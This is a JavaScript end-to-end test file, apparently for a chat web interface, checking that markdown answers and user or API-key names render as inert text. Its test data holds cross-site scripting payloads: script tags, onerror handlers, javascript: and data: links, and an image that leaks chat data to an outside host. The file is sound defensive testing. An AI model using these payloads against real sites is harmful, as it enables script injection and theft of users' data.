/** What a model, a provider or another person writes is text: it runs nothing and loads nothing. */
import assert from 'node:assert/strict';
import { expectAccessible, story } from './support.mjs';
import { choose, finished, say } from './support/chat.mjs';

const HOSTILE = [
  '<script>window.taken = "script"</script>',
  '<img src="https://elsewhere.example/pixel.png" onerror="window.taken = \'onerror\'">',
  '<iframe src="https://elsewhere.example/frame"></iframe>',
  '<style>body { display: none }</style>',
  '<a href="https://elsewhere.example" style="position:fixed;inset:0" onclick="window.taken = 1">cover</a>',
  '![a picture](https://elsewhere.example/track.png?chat=secret)',
  '[press me](javascript:window.taken="link")',
  '[data](data:text/html,<script>window.taken="data"</script>)',
  '[odd](JaVaScRiPt&colon;alert(1)) <javascript:window.taken=1>',
  '$\\href{javascript:window.taken="math"}{x}$ and $\\includegraphics{https://elsewhere.example/m.png}$',
  '```html\n<script>window.taken = "code"</script>\n```',
].join('\n\n');

story('hostile markdown is inert and loads nothing from anywhere', {}, async (house) => {
  const ada = await house.administrator();
  const page = await ada.visit('/');
  await choose(page, 'demo/echo');
  const answer = await finished(await say(page, HOSTILE));
  await answer.getByText('press me').waitFor();

  assert.equal(await page.evaluate(() => window.taken), undefined);
  const found = await answer.evaluate((article) => ({
    elements: [...article.querySelectorAll('script, iframe, style, img, object, embed, form, link')].map((element) => element.outerHTML),
    inlineStyles: article.querySelectorAll('.md > [style], .md a[style]').length,
    handlers: [...article.querySelectorAll('*')].filter((element) => [...element.attributes].some(({ name }) => name.startsWith('on'))).length,
    links: [...article.querySelectorAll('a')].map((link) => link.href).filter((href) => !/^(https?|mailto):/.test(href)),
  }));
  assert.deepEqual(found, { elements: [], inlineStyles: 0, handlers: 0, links: [] });
  for (const link of await answer.locator('a[href^="http"]').all()) {
    assert.match((await link.getAttribute('rel')) ?? '', /noopener/);
  }
  await expectAccessible(page, 'hostile markdown');
  // That nothing left the origin is asserted for every story at its end.
});

story('names are text wherever they are shown', { env: { ENABLE_SIGNUP: 'true' } }, async (house) => {
  const ada = await house.administrator();
  const mallory = await house.stranger();
  await mallory.signUp('<img src=x onerror="window.taken=1">', 'mallory@example.test');
  await ada.ask('POST', '/api/v1/keys', { name: '<script>window.taken=2</script>' });
  for (const path of ['/admin/users', '/admin/keys']) {
    const page = await ada.visit(path);
    await page.getByText('window.taken').first().waitFor();
    assert.equal(await page.evaluate(() => window.taken), undefined);
    assert.equal(await page.locator('main img, main script').count(), 0);
  }
});
